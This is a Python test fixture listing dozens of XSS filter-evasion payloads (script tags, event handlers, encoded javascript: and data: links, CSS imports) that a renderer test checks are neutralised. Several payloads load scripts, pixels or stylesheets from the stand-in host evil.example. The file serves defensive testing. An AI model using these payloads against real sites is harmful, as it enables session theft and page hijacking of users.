"""Script-injection attempts saved as article text (after the OWASP XSS filter evasion
cheat sheet), shared by the fast renderer test and the Chromium test.

Each payload tries to open a dialog, set ``window.__xss``, or make the browser fetch
from another host (``evil.example``); none of that may happen.
"""

from __future__ import annotations

FLAG = "__xss"
_SET = f"window.{FLAG}=1"

XSS_PAYLOADS: tuple[str, ...] = (
    f"<script>{_SET};alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    f'<IMG SRC="javascript:{_SET}">',
    f'<img src=x onerror="{_SET};alert(1)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    f'<svg onload="{_SET}"></svg>',
    f"<svg><script>{_SET}</script></svg>",
    f'<body onload="{_SET}">',
    f'<iframe src="javascript:{_SET}"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    f'<a href="javascript:{_SET}">klicka</a>',
    f"[klicka](javascript:{_SET})",
    f"[klicka](JaVaScRiPt:{_SET})",
    "[klicka](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[klicka](&#x6A;avascript:alert(1))",
    "[klicka](java&#x09;script:alert(1))",
    "[klicka](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    f"[klicka](<javascript:{_SET}>)",
    f"<javascript:{_SET}>",
    f"[klicka][ref]\n\n[ref]: javascript:{_SET}",
    "[klicka](vbscript:msgbox(1))",
    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"![bild](javascript:{_SET})",
    "![bild](https://evil.example/pixel.png)",
    "![bild](//evil.example/pixel.png)",
    f'![bild](/bilder/egenvard/x.png" onerror="{_SET})',
    f'[klicka](https://www.1177.se "titel\\" onmouseover=\\"{_SET}")',
    '<div style="background:url(https://evil.example/bg.png)">stil</div>',
    '<p style="width: expression(alert(1))">stil</p>',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    f'<details open ontoggle="{_SET}">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SET}>",
    f"**<script>{_SET}</script>**",
    f"- <img src=x onerror={_SET}>\n- [x](javascript:{_SET})",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button>Skicka</button></form>',
    f"&lt;script&gt;{_SET}&lt;/script&gt;",
    f"<<SCRIPT>{_SET};//<</SCRIPT>",
    '<base href="https://evil.example/">',
    f"[klicka](\\u006Aavascript:{_SET})",
    f"`<script>{_SET}</script>`",
    f"```\n<script>{_SET}</script>\n```",
    "<https://evil.example/autolink>",
)
